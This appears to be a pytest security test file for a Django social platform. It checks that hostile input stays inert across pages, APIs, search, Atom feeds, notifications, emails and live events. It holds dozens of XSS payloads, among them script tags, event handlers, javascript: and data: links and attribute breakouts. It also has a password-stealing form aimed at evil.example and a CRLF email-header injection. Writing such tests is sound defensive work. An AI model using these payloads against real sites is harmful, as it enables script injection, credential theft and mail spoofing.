"""Hostile input, published through the real services, renders inert everywhere it is shown.

Every post/comment payload is checked on the post page, the home feed, the API's HTML fields,
search snippets, Atom feeds, the notification inbox (page and API) and the mention email; the
digest and the live stream take the whole corpus at once. Hostile display names, group names,
post titles and upload filenames are checked on the pages, APIs, feeds and emails that show them.
"""

from __future__ import annotations

import io
import json
import warnings
from email.message import Message

import feedparser
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.test import Client
from PIL import Image

from tests.factories import PersonFactory
from tests.security.inert import assert_inert, atom_entries, parse, problems
from townhall.conversations.services import add_comment, follow_person, publish_post
from townhall.groups.services import create_group, invite_to_group
from townhall.live.broker import get_broker
from townhall.notifications.models import EmailMode, Kind
from townhall.notifications.services import update_preferences
from townhall.people.services import set_profile_photo

API = "/api/v1"
MARK = "quokka"  # a word every payload is wrapped in, so search and feeds can find it

# Markdown sources as a hostile colleague would type them. `{member}` becomes a real handle.
BODY_PAYLOADS = {
    "script-tag": "<script>alert('xss')</script>",
    "script-mixed-case": "<ScRiPt>alert(1)</sCrIpT>",
    "script-split": "<scr<script>ipt>alert(1)</script>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-onerror-slashes": "<img/src=x/onerror=alert(1)>",
    "img-onerror-uppercase": "<IMG SRC=x ONERROR=alert(1)>",
    "img-onerror-newline": "<img src=x\nonerror=alert(1)>",
    "body-onload": "<body onload=alert(1)>",
    "div-onmouseover": '<div onmouseover="alert(1)">hover me</div>',
    "a-onclick-backticks": "<a href=# onclick=`alert(1)`>x</a>",
    "svg-onload": "<svg onload=alert(1)>",
    "inline-svg-script": "<svg><script>alert(1)</script></svg>",
    "svg-animate-href": '<svg><a><animate attributeName=href values="javascript:alert(1)"/>'
    "<text y=20>x</text></a></svg>",
    "iframe": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object-embed": '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    "style-element": '<style>body{background:url("javascript:alert(1)")}</style>',
    "style-attribute": '<p style="background:url(javascript:alert(1))">styled</p>',
    "form": '<form action="https://evil.example/steal"><input name=password><button>Go</button>'
    "</form>",
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base-href": '<base href="https://evil.example/">',
    "htmx-attributes": '<div hx-post="/api/v1/posts" hx-trigger="load">x</div>',
    "html-comment": "<!-- <script>alert(1)</script> -->",
    "link-javascript": "[click](javascript:alert(1))",
    "link-javascript-mixed-case": "[click](JaVaScRiPt:alert(1))",
    "link-javascript-entity": "[click](&#106;avascript:alert(1))",
    "link-javascript-hex-entities": "[click](&#x6A;avascript&#x3A;alert(1))",
    "link-javascript-tab-entity": "[click](jav&#x09;ascript:alert(1))",
    "link-javascript-newline": "[click](java\nscript:alert(1))",
    "link-javascript-leading-space": "[click](<  javascript:alert(1)>)",
    "link-javascript-percent": "[click](%6Aavascript:alert(1))",
    "link-javascript-angle": "[click](<javascript:alert(1)>)",
    "link-vbscript": "[click](vbscript:msgbox(1))",
    "link-data-html": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "link-title-breakout": '[a](https://example.com/ "x\\" onmouseover=alert(1) y=\\"")',
    "image-javascript": "![pic](javascript:alert(1))",
    "image-data-svg": "![pic](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "image-data-png": "![pic](data:image/png;base64,iVBORw0KGgo=)",
    "image-alt-breakout": '![x" onerror="alert(1)](https://example.com/a.png)',
    "image-title-breakout": '![a](https://example.com/a.png "t\\" onerror=alert(1)")',
    "attribute-breakout": '"><img src=x onerror=alert(1)>',
    "attribute-breakout-single": "'><svg onload=alert(1)>",
    "reference-link-javascript": "[click][evil]\n\n[evil]: javascript:alert(1)",
    "reference-link-external": "[docs][d]\n\n[d]: https://example.com/docs",
    "autolink-javascript": "<javascript:alert(1)>",
    "autolink-quote-breakout": '<https://example.com/"onmouseover="alert(1)>',
    "link-inside-link": "[[inner](javascript:alert(1))](https://example.com/)",
    "link-inside-link-external": "[[inner](https://a.example/)](https://b.example/)",
    "html-in-code-span": "`<script>alert(1)</script>` and `<img src=x onerror=alert(1)>`",
    "html-in-code-block": "```\n<img src=x onerror=alert(1)>\n"
    "</code></pre><script>alert(1)</script>\n```",
    "bold-around-raw-link": "**<a href=javascript:alert(1)>bold</a>**",
    "mention-adjacent-html": "@{member}<script>alert(1)</script>",
    "mention-in-link-text": "[@{member}](javascript:alert(1))",
    "mention-in-attribute": '<img alt="@{member}" src=x onerror=alert(1)>',
    "topic-adjacent-html": "#launch<img src=x onerror=alert(1)>",
    "topic-in-link-text": "[#launch](javascript:alert(1))",
    "topic-after-entity": "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E; #launch",
    "external-link": "[site](https://example.com/)",
    "table-with-html": "| a | b |\n|---|---|\n"
    "| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "private-use-markers": "\ue000<b>\ue001 mark smuggling \ue000",
}
PAYLOAD_IDS = list(BODY_PAYLOADS)

# Plain-text fields (names, titles) that must come out as text, never as markup.
HOSTILE_TEXT = {
    "img-onerror": "<img src=x onerror=alert(1)>",
    "script": "<script>alert(1)</script>",
    "attribute-breakout": '"><svg onload=alert(1)>',
    "single-quote-breakout": "'><img src=x onerror=alert(1)>",
    "title-breakout": "</title><script>alert(1)</script>",
    "javascript-url": "javascript:alert(1)",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt;",
}
HOSTILE_IDS = list(HOSTILE_TEXT)


def _client(person) -> Client:
    client = Client()
    client.force_login(person)
    return client


def _body(payload_id: str, member) -> str:
    payload = BODY_PAYLOADS[payload_id].replace("{member}", member.handle)
    return f"{MARK} #{MARK}\n\n{payload}\n\n{MARK} @{member.handle}"


def _publish(payload_id, owner, member, commit):
    """The payload as a post and as a comment on it, both mentioning the member."""
    body = _body(payload_id, member)
    with commit():
        post = publish_post(author=owner, body=body)
        comment = add_comment(author=owner, post=post, body=body)
    return post, comment


def _html(response) -> str:
    assert response.status_code == 200, response.status_code
    return response.content.decode()


def _email_parts(message: Message) -> list[tuple[str, str]]:
    return [
        (part.get_content_type(), part.get_payload(decode=True).decode())
        for part in message.walk()
        if not part.is_multipart()
    ]


def _assert_email_inert(message: Message, where: str) -> str:
    """Text parts are plain text; any HTML part is inert. Returns the text part."""
    parts = _email_parts(message)
    assert parts, where
    text = ""
    for content_type, payload in parts:
        assert content_type in ("text/plain", "text/html"), (where, content_type)
        if content_type == "text/html":
            assert_inert(payload, where=f"{where} (HTML part)", fragment_is_prose=False)
        else:
            text += payload
            # The sanitiser's HTML never reaches a plain-text email: it would show as markup.
            assert 'rel="noopener' not in payload and "<p>" not in payload, where
    for header in ("Subject", "From", "To"):
        assert "\n" not in str(message[header]).replace("\n ", ""), (where, header)
    assert message["Bcc"] is None and message["Cc"] is None, where
    return text


# --- Post and comment bodies: every payload on every page and machine output -----------------


@pytest.mark.parametrize("payload_id", PAYLOAD_IDS)
def test_payload_is_inert_wherever_it_is_shown(payload_id, owner, member, commit):
    post, _comment = _publish(payload_id, owner, member, commit)
    client = _client(member)

    detail = assert_inert(_html(client.get(f"/posts/{post.pk}/")), where="post page")
    assert len([e for e in detail.elements if "prose" in e.attrs.get("class", "")]) >= 2
    assert MARK in detail.text

    home = assert_inert(_html(client.get("/")), where="home feed")
    assert any(e.attrs.get("id") == f"post-{post.pk}" for e in home.elements)

    topic = assert_inert(_html(client.get(f"/topics/{MARK}/")), where="topic feed")
    assert any(e.attrs.get("id") == f"post-{post.pk}" for e in topic.elements)

    search = assert_inert(_html(client.get("/search/", {"q": MARK})), where="search page")
    assert search.tags("mark"), "the search found nothing, so it proves nothing"

    inbox = assert_inert(_html(client.get("/notifications/")), where="notifications page")
    assert MARK in inbox.text

    # The same publication through the API, search API, notification API and Atom feed.
    data = client.get(f"{API}/posts/{post.pk}").json()
    assert data["body"] == post.body  # the source travels as text, for clients to escape
    assert_inert(data["body_html"], where="API body_html", fragment_is_prose=True)
    [thread] = client.get(f"{API}/posts/{post.pk}/comments").json()["items"]
    assert_inert(thread["body_html"], where="API comment body_html", fragment_is_prose=True)
    [item] = client.get(f"{API}/feeds/home").json()["items"]
    assert_inert(item["body_html"], where="API feed body_html", fragment_is_prose=True)

    hits = client.get(f"{API}/search", {"q": MARK}).json()["hits"]
    assert len(hits) == 2
    for hit in hits:
        snippet = parse(hit["snippet_html"])
        # Only our own attribute-less <mark> is markup; everything else is escaped text.
        assert {e.tag for e in snippet.elements} <= {"mark"}, hit["snippet_html"]
        assert all(not e.attrs for e in snippet.elements), hit["snippet_html"]
        assert hit["snippet_html"].count("<mark>") == hit["snippet_html"].count("</mark>")

    notifications = client.get(f"{API}/notifications").json()["items"]
    assert {n["kind"] for n in notifications} == {"mention"}
    for notification in notifications:
        # Snippets are plain text: tags the sanitiser produced never reach them.
        snippet = notification["snippet"]
        assert "<p>" not in snippet and "rel=" not in snippet, snippet

    response = client.get(f"/rss/topics/{MARK}/")
    assert response.status_code == 200
    [entry] = atom_entries(response.content)
    assert entry["summary_type"] == "html" and entry["title_type"] == "text"
    assert_inert(entry["summary"], where="Atom summary", fragment_is_prose=True)
    assert b"<script" not in response.content.lower()
    [parsed] = feedparser.parse(response.content).entries
    assert parsed.link.endswith(f"/posts/{post.pk}/")
    assert not problems(parsed.summary, fragment_is_prose=True)


def test_mention_emails_of_the_whole_corpus_are_plain_text(
    owner, member, commit, smtp_server, run_tasks
):
    with commit():
        for payload_id in PAYLOAD_IDS:
            post = publish_post(author=owner, body=_body(payload_id, member))
            add_comment(author=owner, post=post, body=_body(payload_id, member))
    run_tasks()
    assert len(smtp_server.messages) == 2 * len(PAYLOAD_IDS)
    for message in smtp_server.messages:
        text = _assert_email_inert(message, f"mention email {message['Subject']}")
        assert MARK in text


def test_digest_of_the_whole_corpus_is_inert(owner, member, commit, smtp_server):
    update_preferences(person=member, email={Kind.MENTION: EmailMode.DIGEST})
    with commit():
        for payload_id in PAYLOAD_IDS:
            publish_post(author=owner, body=_body(payload_id, member))
    call_command("send_digests", "--frequency", "weekly", verbosity=0)
    [message] = smtp_server.messages
    text = _assert_email_inert(message, "digest")
    assert text.count(MARK) >= len(PAYLOAD_IDS)


@pytest.mark.django_db(transaction=True)
def test_live_events_carry_ids_never_payload_text(owner, member):
    after = get_broker().publish("test:baseline", "noop", {}).id
    posts = [publish_post(author=owner, body=_body(pid, member)) for pid in PAYLOAD_IDS]
    for post in posts[:3]:
        add_comment(author=member, post=post, body=_body("script-tag", member))
    watched = ",".join(str(p.pk) for p in posts[:3])
    response = _client(member).get(f"/live/events?posts={watched}", HTTP_LAST_EVENT_ID=str(after))
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        stream = b"".join(response).decode()
    events = [
        json.loads(line.removeprefix("data: "))
        for line in stream.splitlines()
        if line.startswith("data: ")
    ]
    assert len(events) >= len(posts)
    for data in events:
        assert all(isinstance(v, int) for v in data.values()), data
    assert "alert" not in stream and MARK not in stream and "<" not in stream


# --- Names, titles and filenames: text that must stay text ------------------------------------


@pytest.fixture
def hostile_person(company):
    def make(name: str):
        return PersonFactory(first_name=name, last_name="Evilson", primary_unit=company)

    return make


def _shows_as_text(html: str, text: str, where: str) -> None:
    page = assert_inert(html, where=where)
    assert text in page.text, f"{where}: {text!r} is not shown as text"


@pytest.mark.parametrize("hostile_id", HOSTILE_IDS)
def test_hostile_display_name_is_text_on_every_page(hostile_id, hostile_person, member, commit):
    name = HOSTILE_TEXT[hostile_id]
    eve = hostile_person(name)
    with commit():
        post = publish_post(author=eve, body=f"Hi @{member.handle} {MARK}")
        add_comment(author=eve, post=post, body=f"again @{member.handle}")
        follow_person(follower=eve, person=member)
    client = _client(member)
    for url in (f"/posts/{post.pk}/", "/", f"/people/{eve.pk}/", "/notifications/"):
        _shows_as_text(_html(client.get(url)), name, url)
    _shows_as_text(_html(client.get("/search/", {"q": "Evilson"})), name, "people search")
    _shows_as_text(_html(client.get("/people/", {"q": "Evilson"})), name, "directory")


@pytest.mark.parametrize("hostile_id", HOSTILE_IDS)
def test_hostile_display_name_is_plain_text_in_api_email_and_feed(
    hostile_id, hostile_person, member, commit, smtp_server, run_tasks
):
    name = HOSTILE_TEXT[hostile_id]
    eve = hostile_person(name)
    with commit():
        publish_post(author=eve, body=f"@{member.handle} {MARK}", kind="article", title="Essay")
    run_tasks()
    client = _client(member)
    [item] = client.get(f"{API}/notifications").json()["items"]
    assert item["text"] == f"{name} Evilson mentioned you in a post"
    assert item["actor"]["display_name"] == f"{name} Evilson"
    [message] = smtp_server.messages
    assert message["Subject"] == f"{name} Evilson mentioned you in a post"
    assert f"{name} Evilson" in _assert_email_inert(message, "mention email")
    response = client.get(f"/rss/people/{eve.pk}/articles/")
    [entry] = atom_entries(response.content)
    assert entry["author"] == f"{name} Evilson"
    assert feedparser.parse(response.content).entries[0].author == f"{name} Evilson"
    assert b"<script" not in response.content.lower()


@pytest.mark.parametrize("hostile_id", HOSTILE_IDS)
def test_hostile_group_name_is_text_everywhere(hostile_id, owner, member, commit):
    name = HOSTILE_TEXT[hostile_id]
    group = create_group(actor=owner, name=name, description=f"About {name}", visibility="open")
    with commit():
        post = publish_post(author=owner, body=f"In the group {MARK}", group=group)
        invite_to_group(actor=owner, group=group, person=member)
    client = _client(member)
    for url in (f"/groups/{group.slug}/", "/groups/", f"/posts/{post.pk}/", "/notifications/"):
        _shows_as_text(_html(client.get(url)), name, url)
    _shows_as_text(_html(_client(owner).get("/")), name, "the group member's home feed")
    _shows_as_text(_html(client.get("/search/", {"q": MARK})), name, "search hit")
    [item] = client.get(f"{API}/notifications").json()["items"]
    assert item["text"] == f"Olga Owner invited you to join {name}"
    response = client.get(f"/rss/groups/{group.slug}/")
    assert feedparser.parse(response.content).feed.title == f"Posts in {name}"
    assert b"<script" not in response.content.lower() and b"<svg" not in response.content.lower()


@pytest.mark.parametrize("hostile_id", HOSTILE_IDS)
def test_hostile_post_title_is_text_everywhere(
    hostile_id, owner, member, commit, smtp_server, run_tasks
):
    title = HOSTILE_TEXT[hostile_id]
    with commit():
        post = publish_post(
            author=owner, body=f"@{member.handle} {MARK} #{MARK}", kind="article", title=title
        )
    run_tasks()
    client = _client(member)
    for url in (f"/posts/{post.pk}/", "/", "/notifications/"):
        _shows_as_text(_html(client.get(url)), title, url)
    _shows_as_text(_html(client.get("/search/", {"q": MARK})), title, "search hit")
    assert client.get(f"{API}/search", {"q": MARK}).json()["hits"][0]["title"] == title
    [item] = client.get(f"{API}/notifications").json()["items"]
    assert item["snippet"] == title
    [message] = smtp_server.messages
    assert title in _assert_email_inert(message, "mention email")
    response = client.get(f"/rss/topics/{MARK}/")
    [entry] = atom_entries(response.content)
    assert entry["title"] == title and entry["title_type"] == "text"
    assert feedparser.parse(response.content).entries[0].title == title
    assert b"<script" not in response.content.lower()


def _png() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (8, 8), (200, 10, 10)).save(out, format="PNG")
    return out.getvalue()


@pytest.mark.parametrize("hostile_id", HOSTILE_IDS)
def test_hostile_upload_filename_never_reaches_a_page(hostile_id, hostile_person, member):
    eve = hostile_person("Eve")
    filename = f"{HOSTILE_TEXT[hostile_id]}.png"
    upload = SimpleUploadedFile(filename, _png(), content_type="image/png")
    set_profile_photo(actor=eve, person=eve, upload=upload)
    client = _client(member)
    html = _html(client.get(f"/people/{eve.pk}/"))
    assert_inert(html, where="profile with photo")
    assert "onerror" not in html and "alert(1)" not in html
    photo = client.get(f"{API}/people/{eve.pk}").json()["photo"]
    assert all(url.startswith("/media/") and "alert" not in url for url in photo.values())


def test_display_name_with_line_breaks_cannot_add_email_headers(
    hostile_person, member, commit, smtp_server, run_tasks
):
    eve = hostile_person("Eve\r\nBcc: victim@example.com\r\nX-Evil: 1")
    with commit():
        publish_post(author=eve, body=f"@{member.handle} {MARK}")
    run_tasks()
    [message] = smtp_server.messages
    assert message["Bcc"] is None and message["X-Evil"] is None
    assert message["To"] == member.email
    assert "victim@example.com" in message["Subject"]  # kept as text on one line
    _assert_email_inert(message, "mention email from a multi-line name")


def test_search_query_is_echoed_as_text(member):
    query = '"><script>alert(1)</script>'
    html = _html(_client(member).get("/search/", {"q": query}))
    page = assert_inert(html, where="search with a hostile query")
    assert any(e.attrs.get("value") == query for e in page.tags("input"))
